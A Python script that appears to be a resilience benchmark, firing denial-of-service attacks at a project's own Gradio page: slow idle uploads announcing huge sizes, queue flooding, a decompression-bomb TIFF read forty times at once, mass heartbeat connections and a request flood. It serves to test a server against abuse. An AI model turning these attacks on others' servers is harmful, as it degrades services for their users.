"""Attacks on the page from one address, for a run beside a regular load.

    python -m tools.bench_page.attacks http://127.0.0.1:7860 --seconds 180 --source 127.0.0.2

Idle uploads with a large announced size, a full queue with unread responses, forty concurrent reads of one
image, refused posts that name an upload, hundreds of closed pages, and requests at the maximum rate. Prints
the number of responses per attack and status. Use it only on your own server.
"""

from __future__ import annotations

import argparse
import io
import json
import os
import socket
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from urllib.parse import urlsplit

import httpx
import numpy as np
from PIL import Image

EXAMPLES = Path(__file__).resolve().parents[2] / "assets" / "examples"
API = "gradio_api"
NICE = 15
"""Niceness of the attacker, which stands for another machine: the server has priority."""


class Attacker:
    """All attacks from one address, each in its own threads, for a given time."""

    def __init__(self, address: str, source: str, seconds: float):
        self.address, self.source = address, source
        self.end = time.monotonic() + seconds
        self.answers: Counter[str] = Counter()
        self._lock = threading.Lock()
        with self.client() as http:
            config = http.get("/config").raise_for_status().json()
        rgb = next(one["id"] for one in config["components"] if one["props"].get("elem_id") == "ktb-rgb")
        self.show_rgb = next(
            one["id"] for one in config["dependencies"] if one["inputs"] == one["outputs"] == [rgb]
        )
        models = next(one for one in config["components"] if one["props"].get("elem_id") == "ktb-model")
        self.model = models["props"]["value"]

    def client(self) -> httpx.Client:
        limits = httpx.Limits(max_connections=None)
        transport = httpx.HTTPTransport(local_address=self.source, limits=limits)
        return httpx.Client(base_url=self.address, timeout=60, transport=transport)

    def run(self) -> dict[str, int]:
        """Run all attacks concurrently; returns the number of responses by attack and status."""
        attacks = (self.idle_uploads, self.queue, self.queue, self.readings, self.posts, self.leave, self.ask)
        threads = [threading.Thread(target=self._again, args=(attack,)) for attack in attacks]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        return dict(sorted(self.answers.items()))

    def _again(self, attack: Callable[[httpx.Client], None]) -> None:
        with self.client() as http:
            while time.monotonic() < self.end:
                try:
                    attack(http)
                except (httpx.HTTPError, OSError) as error:
                    self.count(attack.__name__, type(error).__name__)
                    time.sleep(0.2)

    def count(self, attack: str, outcome: object) -> None:
        with self._lock:
            self.answers[f"{attack}: {outcome}"] += 1

    def upload(self, http: httpx.Client, content: bytes, name: str = "a.png") -> str | None:
        answer = http.post(f"{API}/upload", files={"files": (name, content)})
        self.count("upload", answer.status_code)
        return answer.json()[0] if answer.status_code == httpx.codes.OK else None

    def idle_uploads(self, _: httpx.Client) -> None:
        """Twenty uploads that announce 1.5 GiB each and send nothing more."""
        place = urlsplit(self.address)
        assert place.hostname is not None
        lines = []
        for _number in range(20):
            line = socket.create_connection((place.hostname, place.port), 10, (self.source, 0))
            line.sendall(
                f"POST /{API}/upload HTTP/1.1\r\nHost: {place.netloc}\r\nContent-Length: {3 * 2**29}\r\n"
                "Content-Type: multipart/form-data; boundary=b\r\n\r\n--b\r\n".encode()
            )
            lines.append(line)
        time.sleep(min(25.0, max(0.0, self.end - time.monotonic())))
        for line in lines:
            line.settimeout(0.01)
            with suppress(OSError):
                self.count("idle upload", line.recv(12)[-3:].decode() or "cut off")
            line.close()

    def queue(self, http: httpx.Client) -> None:
        """Runs and large responses that are never read."""
        rgb, x = (file_data(EXAMPLES / f"bedroom_{kind}.png") for kind in ("rgb", "depth"))
        for endpoint, data in (
            ("attribute", [rgb, [x], self.model, 5, 5, "", {}, "file", "pixel"]),
            ("export", [rgb, [x], self.model, "npz", {}, "file"]),
        ):
            answer = http.post(f"{API}/call/{endpoint}", json={"data": data})
            self.count("queue", answer.status_code)
            time.sleep(0.05 if answer.status_code == httpx.codes.OK else 0.1)

    def readings(self, http: httpx.Client) -> None:
        """Forty reads of an image whose pixels take 500 times the size of its file."""
        path = self.upload(http, flat_tiff(), "a.tif")
        if path is None:
            time.sleep(1)
            return
        call = {"fn_index": self.show_rgb, "data": [file_data(path)], "session_hash": f"r{time.time()}"}

        def read() -> None:
            try:
                self.count("reading", http.post(f"{API}/run/predict", json=call).status_code)
            except httpx.HTTPError as error:
                self.count("reading", type(error).__name__)

        threads = [threading.Thread(target=read) for _ in range(40)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    def posts(self, http: httpx.Client) -> None:
        """Refused posts that name an upload."""
        if path := self.upload(http, os.urandom(100_000)):
            answer = http.post(f"{API}/cancel", json={"session_hash": "x", "fn_index": 0, "event_id": path})
            self.count("cancel", answer.status_code)
            self.count("join", http.post(f"{API}/queue/join", content=path.encode()).status_code)
        time.sleep(0.5)

    def leave(self, _: httpx.Client) -> None:
        """Open and close two hundred pages."""
        place = urlsplit(self.address)
        assert place.hostname is not None
        lines = []
        for number in range(200):
            line = socket.create_connection((place.hostname, place.port), 10, (self.source, 0))
            name = f"{API}/heartbeat/h{number}_{time.time()}"
            line.sendall(f"GET /{name} HTTP/1.1\r\nHost: {place.netloc}\r\n\r\n".encode())
            lines.append(line)
        time.sleep(2)
        for line in lines:
            line.close()
        self.count("leave", "closed 200")
        time.sleep(2)

    def ask(self, http: httpx.Client) -> None:
        """Request pages at the maximum rate."""
        answer = http.get("/config")
        self.count("ask", answer.status_code)
        time.sleep(0.02)


def file_data(path: Path | str) -> dict[str, object]:
    """A file in the format of an event."""
    return {"path": str(path), "meta": {"_type": "gradio.FileData"}}


def flat_tiff(side: int = 1500) -> bytes:
    """An image of a single grey, which compresses to a very small file."""
    file = io.BytesIO()
    Image.fromarray(np.zeros((side, side, 3), np.uint8)).save(file, "TIFF", compression="tiff_adobe_deflate")
    return file.getvalue()


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("address", help="address of the page, such as http://127.0.0.1:7860")
    parser.add_argument("--seconds", type=float, default=180)
    parser.add_argument("--source", default="127.0.0.2", help="the attacker's own address (%(default)s)")
    options = parser.parse_args()
    os.nice(NICE)
    found = Attacker(options.address, options.source, options.seconds).run()
    sys.stdout.write(json.dumps(found, indent=1) + "\n")


if __name__ == "__main__":
    main()
